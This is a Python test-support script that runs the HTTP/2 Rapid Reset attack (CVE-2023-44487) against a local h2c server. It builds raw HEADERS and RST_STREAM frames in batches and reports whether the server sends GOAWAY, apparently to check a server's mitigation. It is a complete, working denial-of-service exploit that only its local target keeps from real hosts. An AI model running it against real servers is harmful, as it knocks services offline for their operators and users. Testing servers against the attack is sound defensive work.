#!/usr/bin/env python3
"""spec/support/h2_rapid_reset.py PORT PATH COUNT: the HTTP/2 rapid reset attack (CVE-2023-44487)
against an h2c (prior knowledge) server on 127.0.0.1:PORT, from raw frames (nghttp2's python
bindings are not in Debian).

It sends the preface and an empty SETTINGS, then COUNT times a HEADERS frame (GET PATH,
END_STREAM) immediately followed by RST_STREAM(CANCEL) on the same new stream, in batches of
50, reading what the server sends between batches. It stops when the server sends GOAWAY or
closes. Prints one line: "sent=N goaway=CODE|none last=ID|none closed=yes|no", where last is
the last stream id the server's GOAWAY says it processed: how far the attack got on the server's
side, which does not depend on how far ahead of the server the client's writes ran.
"""
import select
import socket
import struct
import sys

port, path, count = int(sys.argv[1]), sys.argv[2].encode(), int(sys.argv[3])


def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", sid) + payload


def hpack_request(p):
    # :method GET (static 2), :scheme http (static 6), :path literal with name index 4,
    # :authority literal with name index 1 (both "without indexing").
    out = b"\x82\x86"
    out += b"\x04" + bytes([len(p)]) + p
    out += b"\x01" + bytes([9]) + b"localhost"
    return out


s = socket.create_connection(("127.0.0.1", port))
s.settimeout(10)
s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
buf = b""
goaway = None
last = None
closed = False
sent = 0


def read_frames(block):
    global buf, goaway, last, closed
    while True:
        r, _, _ = select.select([s], [], [], 2.0 if block else 0)
        if not r:
            return
        try:
            data = s.recv(65536)
        except (ConnectionResetError, OSError):
            closed = True
            return
        if not data:
            closed = True
            return
        buf += data
        while len(buf) >= 9:
            n = struct.unpack(">I", b"\0" + buf[:3])[0]
            if len(buf) < 9 + n:
                break
            ftype, flags = buf[3], buf[4]
            payload = buf[9:9 + n]
            buf = buf[9 + n:]
            if ftype == 4 and not flags & 1:
                s.sendall(frame(4, 1, 0))  # ACK the server's SETTINGS
            if ftype == 7:
                last = struct.unpack(">I", payload[0:4])[0] & 0x7FFFFFFF
                goaway = struct.unpack(">I", payload[4:8])[0]
        if block:
            block = False


block = hpack_request(path)
sid = 1
try:
    while sent < count and goaway is None and not closed:
        batch = b""
        for _ in range(min(50, count - sent)):
            batch += frame(1, 0x5, sid, block) + frame(3, 0, sid, struct.pack(">I", 8))
            sid += 2
            sent += 1
        s.sendall(batch)
        read_frames(False)
    # What the server says after the last batch.
    for _ in range(5):
        if goaway is not None or closed:
            break
        read_frames(True)
except (BrokenPipeError, ConnectionResetError):
    closed = True
print("sent=%d goaway=%s last=%s closed=%s" % (sent, "none" if goaway is None else goaway,
                                                "none" if last is None else last,
                                                "yes" if closed else "no"))
